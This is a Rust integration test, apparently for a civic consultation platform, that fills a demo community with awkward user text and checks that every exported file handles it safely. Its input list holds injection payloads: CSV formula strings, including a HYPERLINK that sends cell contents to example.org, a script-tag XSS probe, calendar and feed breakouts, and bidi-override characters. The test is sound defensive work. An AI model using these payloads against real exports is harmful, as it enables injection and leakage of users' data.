@@ -1,0 +1,210 @@
+//! A village where people write what breaks a careless file.
+
+use std::path::Path;
+use std::sync::Arc;
+
+use domain::authority::{Actor, Person, Role};
+use domain::envelope::{Author, Envelope, Proof};
+use domain::ids::{CommunityId, Hash, OpId, RecordId, Salt};
+use domain::operations::{
+    Action, Answer, Comment, OpenConsultation, Operation, Propose, Source, Stance, Support, seal,
+};
+use domain::phases::{Period, Phase, Phases};
+use domain::ports::{Clock, Identity, Journal, Submission};
+use domain::text::Localized;
+use domain::time::{DAY, HOUR, Millis};
+use rabaska::export::{self, Asked, File, Out, Public, Tongue};
+use rabaska::import::statements::{self, Target};
+use rabaska::import::territory;
+use rabaska::system::{SystemClock, SystemRandom};
+use store::{Options, Store};
+use tokio::sync::mpsc;
+
+use super::check;
+
+const TERRITORY: &[u8] = include_bytes!("../../../server/demo/territory.json");
+
+/// What people write.
+const WORDS: [&str; 20] = [
+    "=HYPERLINK(\"https://example.org?\"&A1)",
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "'=1",
+    "''-1",
+    "a,b;c\"d\"",
+    "BEGIN:VEVENT\nSUMMARY:faux\nEND:VEVENT",
+    "\\n \\, \\; \\\\",
+    "<script>alert(1)</script>]]>&amp;&#0;<!--",
+    "</content></entry></feed>",
+    "\u{202e}à l’envers\u{2066}",
+    "\u{feff}marque",
+    "\u{fffe}\u{ffff}",
+    "🛶🛶🛶👩🏽‍🌾 ᐊᓂᔑᓈᐯᒧᐎᓐ مرحبا n\u{0303}ə",
+    "ligne 1\n\n\nligne 2\n",
+    "  des espaces  ",
+    "a\u{2028}b\u{2029}c",
+    "{\"json\": [null]}",
+];
+
+const MARKER: &str = "Zébulon Marqueur (fictif)";
+
+struct Village {
+    store: Store,
+    community: CommunityId,
+    ops: u32,
+}
+
+fn localized<T: std::str::FromStr>(text: &str) -> Localized<T>
+where
+    T::Err: std::fmt::Debug,
+{
+    Localized::new([
+        ("fr".parse().unwrap(), text.parse().unwrap()),
+        ("en".parse().unwrap(), format!("{text} (en)").parse().unwrap()),
+        ("oj".parse().unwrap(), text.parse().unwrap()),
+    ])
+    .unwrap()
+}
+
+fn line(text: &str) -> String {
+    text.split(['\n', '\t']).collect::<Vec<_>>().join(" ")
+}
+
+impl Village {
+    async fn person(&self, role: Role) -> Person {
+        let (_, code) = self.store.add(MARKER.parse().unwrap(), self.community.clone(), role).await.unwrap();
+        self.store.open(code).await.unwrap().person
+    }
+
+    async fn act(&mut self, who: &Person, action: Action) -> RecordId {
+        self.ops += 1;
+        let digest = Hash::of(&self.ops.to_be_bytes());
+        let op = OpId(digest.0[..16].try_into().unwrap());
+        let body = seal(Salt(digest.0), Millis(5), vec![], &action).unwrap();
+        let (author, community) = (Author::Person(who.id.clone()), self.community.clone());
+        let envelope = Envelope { op, author, community, stream: None, proof: Proof::Session, body };
+        let operation = Operation::decode(&envelope).unwrap();
+        let (record, actor) = (operation.record(), Actor::Person(who.clone()));
+        let submission = Submission { envelope, operation, actor, receipt: None };
+        let results = self.store.append(vec![submission]).await.unwrap();
+        assert!(format!("{results:?}").contains("accepted"), "{results:?}");
+        record
+    }
+
+    async fn open(&mut self, clerk: &Person, text: &str, source: Option<Source>) -> RecordId {
+        let now = SystemClock.now();
+        let period = |phase, from, until| Period {
+            phase,
+            from: now.plus(from * DAY),
+            until: now.plus(until * DAY + HOUR),
+        };
+        let phases = Phases::new(vec![
+            period(Phase::Inform, -9, -8),
+            period(Phase::Contribute, -7, 3),
+            period(Phase::Discuss, 4, 6),
+            period(Phase::Decide, 8, 9),
+            period(Phase::FollowUp, 10, 400_000_000),
+        ]);
+        let open = OpenConsultation {
+            source,
+            decided_by: Some(localized(text)),
+            used_for: Some(localized(text)),
+            answer_by: Some(now.plus(30 * DAY)),
+            ..OpenConsultation::new(localized(&line(text)), localized(text), phases.unwrap())
+        };
+        self.act(clerk, Action::OpenConsultation(open)).await
+    }
+}
+
+async fn village() -> (Village, tempfile::TempDir) {
+    let folder = tempfile::tempdir().unwrap();
+    let options = Options::new(Arc::new(SystemClock), Arc::new(SystemRandom));
+    let store = Store::open_with(folder.path(), options).await.unwrap();
+    territory::load(&store, territory::read(TERRITORY).unwrap()).await.unwrap();
+    let mut village = Village { store, community: "laforce".parse().unwrap(), ops: 0 };
+    let (clerk, author) = (village.person(Role::Clerk).await, village.person(Role::Participant).await);
+    let mut people = Vec::new();
+    for _ in 0..6 {
+        people.push(village.person(Role::Participant).await);
+    }
+    for text in [WORDS[0], WORDS[7], WORDS[8], WORDS[10]] {
+        village.open(&clerk, text, None).await;
+    }
+    let consultation = village.open(&clerk, WORDS[9], None).await;
+    for (at, text) in WORDS.iter().enumerate() {
+        let propose = Propose {
+            consultation,
+            title: line(text).parse().unwrap(),
+            text: Some(text.parse().unwrap()),
+            subject: "other".parse().unwrap(),
+            photos: vec![],
+        };
+        let record = village.act(&author, Action::Propose(propose)).await;
+        let comment =
+            Comment { consultation, on: record, stance: Stance::Neutral, text: text.parse().unwrap() };
+        village.act(&author, Action::Comment(comment)).await;
+        village.act(&clerk, Action::Answer(Answer { consultation, record, text: localized(text) })).await;
+        for person in people.iter().take(at % 7) {
+            village.act(person, Action::Support(Support { consultation, record, given: true })).await;
+        }
+    }
+    let label = |text: &str| text.parse().unwrap();
+    let source = Source {
+        attribution: localized("=D’ailleurs, \"là-bas\""),
+        licence: label("CC-BY-4.0"),
+        url: label("https://example.org/a?b=1&c=2"),
+    };
+    let imported = village.open(&clerk, "Conversation importée", Some(source)).await;
+    let file = "timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n\
+                1543000000000,,0,0,1,0,1,More benches\n1543900000000,,1,0,1,0,-1,Hidden there\n";
+    let target = Target {
+        community: village.community.clone(),
+        consultation: imported,
+        source: "test".parse().unwrap(),
+    };
+    statements::load(&village.store, &SystemClock, &[7; 32], &target, file.as_bytes()).await.unwrap();
+    (village, folder)
+}
+
+/// Writes every file of a community, or of one of its consultations, into a folder.
+async fn save(village: &Village, one: Option<RecordId>, tongue: Tongue, folder: &Path) {
+    std::fs::create_dir_all(folder).unwrap();
+    for name in File::all() {
+        let public = Public::read(&village.store, &village.community, one).await.unwrap().unwrap();
+        let (file, home, now) =
+            (File::named(&name).unwrap(), "https://rabaska.test".to_owned(), SystemClock.now());
+        let asked = Asked { file, public, tongue, home, now };
+        let (to, mut taken) = mpsc::channel(2);
+        let mut out = Out::new(to, false);
+        let (written, bytes) = tokio::join!(export::write(&asked, &village.store, &mut out), async {
+            let mut bytes = Vec::new();
+            while let Some(piece) = taken.recv().await {
+                match piece.unwrap() {
+                    end if end.is_empty() => break,
+                    piece => bytes.extend_from_slice(&piece),
+                }
+            }
+            bytes
+        });
+        written.unwrap();
+        std::fs::write(folder.join(name), bytes).unwrap();
+    }
+}
+
+#[tokio::test]
+async fn whatever_people_write_others_read_the_same() {
+    let (village, _folder) = village().await;
+    let root = tempfile::tempdir().unwrap();
+    save(&village, None, Tongue::French, &root.path().join("laforce")).await;
+    let all = Public::read(&village.store, &village.community, None).await.unwrap().unwrap();
+    for it in &all.consultations {
+        save(&village, Some(it.id), Tongue::English, &root.path().join(it.id.to_string())).await;
+    }
+    // A community where nothing was ever asked has files too.
+    let quiet = Village { community: "moffet".parse().unwrap(), store: village.store.clone(), ops: 0 };
+    save(&quiet, None, Tongue::French, &root.path().join("moffet")).await;
+    println!("{}", check(root.path(), &[MARKER, "Marqueur", "Hidden there"]));
+    village.store.close().await;
+}
